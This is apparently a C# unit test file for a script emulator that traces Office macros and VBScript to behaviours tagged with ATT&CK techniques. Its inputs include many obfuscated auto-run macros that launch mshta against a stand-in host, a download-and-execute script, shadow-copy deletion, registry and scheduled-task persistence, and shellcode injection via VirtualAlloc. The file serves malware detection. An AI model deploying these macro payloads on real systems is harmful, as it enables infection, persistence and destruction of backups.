using Platform.Engine.Behaviour;

namespace Platform.Engine.Tests.Behaviour.Basic;

public sealed class BasicEmulatorTests
{
    [Theory]
    [InlineData("Sub AutoOpen()\nShell \"mshta http://a.test/x\", 0\nEnd Sub")]
    [InlineData("Sub Workbook_Open()\nDim w As Object\nSet w = CreateObject(\"WScr\" & \"ipt.Shell\")\nw.Run Chr(109) & ChrW(115) & Chr(&H68) & \"ta http://a.test/x\", 0, False\nEnd Sub")]
    [InlineData("Sub Document_Open()\nCall Go\nEnd Sub\nPrivate Sub Go()\nDim s As String, i As Integer\nFor i = 1 To Len(\"ntiub!iuuq;00b/uftu0y\")\ns = s & Chr(Asc(Mid(\"ntiub!iuuq;00b/uftu0y\", i, 1)) - 1)\nNext i\nShell s\nEnd Sub")]
    [InlineData("Sub AutoOpen()\nShell StrReverse(\"x/tset.a//:ptth athsm\")\nEnd Sub")]
    [InlineData("Function d(a As Variant) As String\nDim i\nFor i = LBound(a) To UBound(a)\nd = d & Chr(a(i) Xor 7)\nNext\nEnd Function\nSub AutoOpen()\nShell d(Array(106, 116, 111, 115, 102, 39, 111, 115, 115, 119, 61, 40, 40, 102, 41, 115, 98, 116, 115, 40, 127))\nEnd Sub")]
    [InlineData("Sub AutoOpen()\nWith CreateObject(\"Shell.Application\")\n.ShellExecute \"mshta\", Replace(\"hZttp:/Z/a.tesZt/x\", \"Z\", \"\"), \"\", \"open\", 0\nEnd With\nEnd Sub")]
    [InlineData("Sub AutoOpen()\nGetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\").Create \"mshta http://a.test/x\", Null, Null, p\nEnd Sub")]
    [InlineData("Sub AutoOpen()\nGetObject(\"new:72C24DD5-D70A-438B-8A42-98424B88AFB8\").Run Join(Split(\"mshta|http://a.test/x\", \"|\"), \" \")\nEnd Sub")]
    [InlineData("Sub AutoOpen()\nApplication.Run \"Mod1.Go\", \"mshta \"\nEnd Sub\nSub Go(a)\nShell a & _\n  \"http://a.test/x\"\nEnd Sub")]
    [InlineData("Sub AutoOpen()\nIf Application.UserName <> \"x\" Then\nGoTo Skip\nEnd If\nExit Sub\nSkip:\nShell (\"mshta \") & \"http://a.test/x\", vbHide\nEnd Sub")]
    [InlineData("Private Declare PtrSafe Function q Lib \"shell32.dll\" Alias \"ShellExecuteA\" (ByVal h As LongPtr, ByVal o As String, ByVal f As String, ByVal a As String, ByVal d As String, ByVal s As Long) As LongPtr\nSub AutoOpen()\nq 0, \"open\", \"mshta\", \"http://a.test/x\", \"\", 0\nEnd Sub")]
    [InlineData("Const a = \"ms\"\nPublic b As String\nSub AutoOpen()\nb = a & \"hta \"\nOn Error Resume Next\nSelect Case Len(b)\nCase 1 To 3: Shell \"calc\"\nCase 6: Shell b & \"http://a.test/x\"\nEnd Select\nEnd Sub")]
    [InlineData("Sub AutoOpen()\nCallByName CreateObject(\"WScript.Shell\"), \"Run\", VbMethod, \"mshta http://a.test/x\", 0\nEnd Sub")]
    [InlineData("Sub AutoOpen()\nDim a(2)\na(0) = \"mshta\": a(1) = \" \": a(2) = \"http://a.test/x\"\nDo While i <= 2\ns = s & a(i): i = i + 1\nLoop\nShell s\nEnd Sub")]
    [InlineData("Sub AutoOpen()\nApplication.DDEInitiate App:=\"mshta\", Topic:=\"http://a.test/x\"\nEnd Sub")]
    public void A_macro_that_runs_by_itself_is_followed_to_its_command(string source)
    {
        var report = Emulated.Run(ScriptLanguage.Vba, source);

        Assert.True(report.Has(BehaviourKind.Execute, "T1218.005"), report.Told());
        Assert.Contains("http://a.test/x", report.Addresses);
    }

    [Theory]
    [InlineData("Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://a.test/x.exe\", False\nh.Send\nSet s = CreateObject(\"ADODB.Stream\")\ns.Type = 1: s.Open: s.Write h.responseBody\ns.SaveToFile \"C:\\Users\\Public\\x.exe\", 2\nCreateObject(\"WScript.Shell\").Run \"C:\\Users\\Public\\x.exe\"", BehaviourKind.Execute, "T1204.002")]
    [InlineData("ExecuteGlobal \"CreateObject(\"\"WScript.Shell\"\").RegWrite \"\"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u\"\", \"\"C:\\x.exe\"\"\"", BehaviourKind.Persist, "T1547.001")]
    [InlineData("Set f = CreateObject(\"Scripting.FileSystemObject\")\nSet t = f.CreateTextFile(f.GetSpecialFolder(2) & \"\\a.js\", True)\nt.WriteLine \"var a=1\"\nt.Close\nCreateObject(\"WScript.Shell\").Run \"wscript \" & f.GetSpecialFolder(2) & \"\\a.js\"", BehaviourKind.Execute, "T1204.002")]
    [InlineData("For Each s In GetObject(\"winmgmts:\\\\.\\root\\cimv2\").ExecQuery(\"Select * From Win32_ShadowCopy\")\ns.Delete_\nNext", BehaviourKind.DeleteShadowCopies, "T1490")]
    [InlineData("CreateObject(\"WScript.Shell\").Run \"cmd /c vssadmin delete shadows /all /quiet\", 0, True", BehaviourKind.DeleteShadowCopies, "T1490")]
    [InlineData("Set x = CreateObject(\"MSXML2.DOMDocument\").createElement(\"a\")\nx.DataType = \"bin.base64\"\nx.Text = \"TVqQAAMAAAAEAAAA\"\nSet s = CreateObject(\"ADODB.Stream\")\ns.Type = 1\ns.Open\ns.Write x.nodeTypedValue\ns.SaveToFile \"a.exe\", 2", BehaviourKind.Drop, "T1027.009")]
    [InlineData("Set s = CreateObject(\"Schedule.Service\")\ns.Connect\nSet d = s.NewTask(0)\nSet a = d.Actions.Create(0)\na.Path = \"mshta\"\na.Arguments = \"http://a.test/x\"\ns.GetFolder(\"\\\").RegisterTaskDefinition \"u\", d, 6, , , 3", BehaviourKind.Persist, "T1053.005")]
    [InlineData("Class c\nPrivate k\nPublic Sub Go(a)\nk = a\nCreateObject(\"WScript.Shell\").Run k & \" http://a.test/x\"\nEnd Sub\nEnd Class\nSet o = New c\no.Go \"mshta\"", BehaviourKind.Execute, "T1218.005")]
    [InlineData("Set w = CreateObject(\"WScript.Shell\")\nSet l = w.CreateShortcut(w.SpecialFolders(\"Startup\") & \"\\u.lnk\")\nl.TargetPath = \"C:\\x.exe\"\nl.Save", BehaviourKind.Persist, "T1547.001")]
    [InlineData("Set h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nh.Open \"GET\", \"http://a.test/x\", False\nh.Send\nExecute h.responseText", BehaviourKind.Execute, "T1059.005")]
    public void A_script_is_followed(string source, BehaviourKind kind, string technique)
    {
        var report = Emulated.Run(ScriptLanguage.VbScript, source);

        Assert.True(report.Has(kind, technique), report.Told());
    }

    [Fact]
    public void Shell_code_by_declared_functions_is_injection()
    {
        var report = Emulated.Run(ScriptLanguage.Vba, "Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" (ByVal a As LongPtr) As LongPtr\nDeclare PtrSafe Function RtlMoveMemory Lib \"kernel32\" (ByVal a As LongPtr) As LongPtr\nDeclare PtrSafe Function CreateThread Lib \"kernel32\" (ByVal a As LongPtr) As LongPtr\nSub AutoOpen()\nb = Array(232, 130)\na = VirtualAlloc(0, 2, 4096, 64)\nFor i = 0 To 1: RtlMoveMemory a + i, b(i), 1: Next\nCreateThread 0, 0, a, 0, 0, 0\nEnd Sub");

        Assert.True(report.Has(BehaviourKind.Execute, "T1055"), report.Told());
    }

    [Theory]
    [InlineData("Property.Comments=mshta http://a.test/x", "ActiveDocument.BuiltInDocumentProperties(\"Comments\").Value")]
    [InlineData("Variable.q=mshta http://a.test/x", "ActiveDocument.Variables(\"q\").Value")]
    [InlineData("UserForm1.TextBox1=mshta http://a.test/x", "UserForm1.TextBox1.Text")]
    [InlineData("UserForm1.Label2.Tag=mshta http://a.test/x", "UserForm1.Label2.Tag")]
    [InlineData("Sheet1!B3=mshta http://a.test/x", "Sheets(\"Sheet1\").Range(\"B3\").Value")]
    [InlineData("Sheet1!B3=mshta http://a.test/x", "ThisWorkbook.Worksheets(1).Cells(3, 2)")]
    [InlineData("CustomProperty.k=mshta http://a.test/x", "ThisDocument.CustomDocumentProperties(\"k\")")]
    public void What_stands_in_the_document_is_found(string page, string expression)
    {
        var report = Emulated.Run(ScriptLanguage.Vba, $"Sub AutoOpen()\nShell {expression}, 0\nEnd Sub", page: page);

        Assert.True(report.Has(BehaviourKind.Execute, "T1218.005"), report.Told());
    }

    [Fact]
    public void A_macro_that_only_a_hand_starts_is_told_as_such()
    {
        var report = Emulated.Run(ScriptLanguage.Vba, "Sub Button1_Click()\nShell \"mshta http://a.test/x\"\nEnd Sub");

        Assert.All(report.Behaviours, seen => Assert.Contains("by hand", seen.Where, StringComparison.Ordinal));
        Assert.NotEmpty(report.Behaviours);
    }

    [Theory]
    [InlineData("Sub Workbook_Open()\nSheets(\"Report\").Activate\nRange(\"A1\").Value = Format(Now, \"yyyy-mm-dd\")\nFor i = 2 To 10\nCells(i, 3).Value = Cells(i, 1).Value * Cells(i, 2).Value\nNext i\nMsgBox \"Done\"\nEnd Sub")]
    [InlineData("Sub Auto_Open()\nDim ws As Worksheet\nFor Each ws In ThisWorkbook.Worksheets\nws.Columns(\"A:F\").AutoFit\nws.PageSetup.Orientation = xlLandscape\nNext ws\nApplication.StatusBar = False\nEnd Sub")]
    [InlineData("Sub Document_Open()\nWith ActiveDocument.Styles(\"Normal\").Font\n.Name = \"Arial\"\n.Size = 11\nEnd With\nIf ActiveDocument.Tables.Count > 0 Then ActiveDocument.Tables(1).AutoFitBehavior wdAutoFitContent\nEnd Sub")]
    [InlineData("Sub SendReport()\nSet o = CreateObject(\"Outlook.Application\")\nSet m = o.CreateItem(0)\nm.To = \"boss@company.example\"\nm.Attachments.Add ThisWorkbook.FullName\nm.Send\nEnd Sub")]
    [InlineData("Sub Export()\nOpen \"C:\\Reports\\out.csv\" For Output As #1\nFor r = 1 To 20\nPrint #1, Cells(r, 1) & \";\" & Cells(r, 2)\nNext\nClose #1\nEnd Sub")]
    [InlineData("Function Brutto(netto As Double, Optional satz As Double = 0.19) As Double\nBrutto = Round(netto * (1 + satz), 2)\nEnd Function")]
    public void An_honest_macro_tells_nothing(string source) => Assert.Equal("", Emulated.Run(ScriptLanguage.Vba, source).Told());

    [Theory]
    [InlineData("Set n = CreateObject(\"WScript.Network\")\nn.MapNetworkDrive \"Z:\", \"\\\\files\\share\"\nIf n.UserName = \"x\" Then WScript.Echo \"Hello \" & n.UserName")]
    [InlineData("Set f = CreateObject(\"Scripting.FileSystemObject\")\nFor Each x In f.GetFolder(\"C:\\Logs\").Files\nIf x.DateLastModified < Now - 30 Then x.Delete\nNext")]
    public void An_honest_script_tells_nothing(string source) => Assert.Equal("", Emulated.Run(ScriptLanguage.VbScript, source).Told());

    [Theory]
    [InlineData("Do\nx = x & \"a\"\nLoop")]
    [InlineData("Sub AutoOpen()\nAutoOpen\nAutoOpen\nEnd Sub")]
    [InlineData("a:\nGoTo a")]
    [InlineData("For i = 1 To 1E12\nFor j = 1 To 1E12\ns = s & s\nNext\nNext")]
    [InlineData("x = String(900000000, \"a\")\nReDim b(99999999)\nReDim c(9999, 9999, 9999)")]
    [InlineData("x = \"Execute x\"\nExecute x")]
    [InlineData("x = ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1")]
    [InlineData("Dim s(....\nDim t(. . .)\nReDim u(!!)")]
    [InlineData("x = - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - Not Not Not Not Not Not Not Not Not Not Not Not 1")]
    public void A_script_without_end_ends(string source) => Assert.NotNull(Emulated.Run(ScriptLanguage.VbScript, source));

    [Fact]
    public void Any_text_is_read_to_an_end() => Sources.Check(
        ScriptLanguage.VbScript,
        ["Sub a()\n", "End Sub\n", "Function f(x)\n", "End Function\n", "If ", " Then\n", "Else\n", "ElseIf ", "End If\n", "For i = 1 To 3\n", "Next\n", "For Each x In ", "Do While ", "Loop\n", "Select Case ", "Case 1\n", "End Select\n", "With x\n", "End With\n", "Dim a(3)\n", "Set ", " = ", " & ", "\"", "(", ")", ".", ",", ":", " _\n", "'", "&H41", "Chr(", "Execute ", "x", "1", "\n", "Class c\n", "End Class\n", "New c", "GoTo l\n", "l:\n", " Xor ", "Not ", "-", "a "]);
}
